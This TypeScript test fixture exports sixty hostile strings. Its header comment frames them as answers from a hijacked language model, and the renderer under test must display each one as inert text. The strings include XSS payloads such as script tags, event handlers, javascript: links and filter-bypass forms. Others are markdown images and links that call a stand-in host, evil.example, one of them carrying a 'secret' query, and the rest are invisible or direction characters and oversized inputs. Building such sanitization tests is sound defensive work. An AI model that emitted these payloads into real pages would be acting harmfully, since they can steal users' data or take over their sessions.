// Sixty answers of a hijacked model: markup, addresses, wrong numbers, invisible and direction characters, and sizes. None
// may become more than text.

const EVIL = "https://evil.example";

const MARKUP = [
	"<script>document.title='owned'</script>",
	"<script src=https://evil.example/x.js></script>",
	"<img src=x onerror=\"document.title='owned'\">",
	`<img src="${EVIL}/pixel.png">`,
	"<svg onload=\"document.title='owned'\"><circle r=9 /></svg>",
	"<svg><script>document.title='owned'</script></svg>",
	`<iframe src="${EVIL}"></iframe>`,
	'<iframe srcdoc="<script>parent.document.title=1</script>"></iframe>',
	`<object data="${EVIL}/x"></object><embed src="${EVIL}/y">`,
	`<link rel=stylesheet href="${EVIL}/x.css">`,
	`<style>@import url(${EVIL}/x.css); body { display: none }</style>`,
	`<base href="${EVIL}/">`,
	`<meta http-equiv=refresh content="0;url=${EVIL}">`,
	`<form action="${EVIL}"><input name=key><button>Send</button></form>`,
	"<a href=\"javascript:document.title='owned'\">click</a>",
	'<div style="position:fixed;inset:0;z-index:99">cover</div>',
	`<video src="${EVIL}/v.mp4" autoplay></video><audio src="${EVIL}/a.mp3" autoplay></audio>`,
	"<details open ontoggle=\"document.title='owned'\">x</details>",
	"<math><mtext></mtext><mglyph><svg><mtext><style><path id='</style><img onerror=alert(1) src>'>",
	"</p></div></section><h1>Outside</h1>",
	"<!-- --><b>bold</b><!--",
	"<![CDATA[<script>document.title='owned'</script>]]>",
	"<template><script>document.title='owned'</script></template>",
	"&lt;script&gt;document.title='owned'&lt;/script&gt;",
	"&#60;img src=x onerror=alert(1)&#62;",
	"<scr<script>ipt>document.title='owned'</scr</script>ipt>",
	"<IMG SRC=JaVaScRiPt:alert('x')>",
	"<a\u0000href=x>nul</a>",
	"＜script＞document.title='owned'＜/script＞",
	"<custom-element onclick=x>y</custom-element>",
];

const ADDRESSES = [
	`![pixel](${EVIL}/p.png?q=secret)`,
	`![pixel][ref]\n\n[ref]: ${EVIL}/p.png`,
	`[click](${EVIL})`,
	"[click](javascript:document.title='owned')",
	"[click](data:text/html,<script>1</script>)",
	`[click][ref]\n\n[ref]: ${EVIL} "title"`,
	`[ref]\n\n[ref]: ${EVIL}`,
	`<${EVIL}>`,
	"<mailto:a@evil.example>",
	`${EVIL}/plain`,
	"www.evil.example",
	"//evil.example/x",
	`[![image](${EVIL}/i.png)](${EVIL})`,
	`[^1]\n\n[^1]: ${EVIL}`,
	`| a | b |\n| - | - |\n| ![](${EVIL}/t.png) | [x](${EVIL}) |`,
	`\`\`\`html\n<img src="${EVIL}/code.png">\n\`\`\``,
	`\`<img src="${EVIL}/inline.png">\``,
	`$\\href{${EVIL}}{x}$ and \\(\\includegraphics{${EVIL}/f.png}\\)`,
	`> quoted ![](${EVIL}/q.png)`,
	`- list\n  - ![](${EVIL}/l.png)\n    - <img src=${EVIL}/m.png>`,
];

const NUMBERS_AND_LETTERS = [
	"A claim [S99] and [99] and [0] and [-1] and [1e3] [999].",
	"[1][1][1][1] [1, 1, 1] [1 , 99] [S1] [[1]] \\[1\\]",
	"\u202Eevil\u202C \u2066hidden\u2069 \u200Bzero\u200B\u2060\ufeff",
	"\u{E0001}\u{E0041}\u{E0042}tags",
	"\u0007\u0008\u001b[31mred\u001b[0m",
	"\ud800 lone \udfff",
	`${"é̖̗̘".repeat(400)}`,
	"*".repeat(9_000),
	`${"- ".repeat(4_000)}deep`,
	`${"x".repeat(1_000_000)}`,
];

export const HOSTILE_TEXTS: readonly string[] = [...MARKUP, ...ADDRESSES, ...NUMBERS_AND_LETTERS];
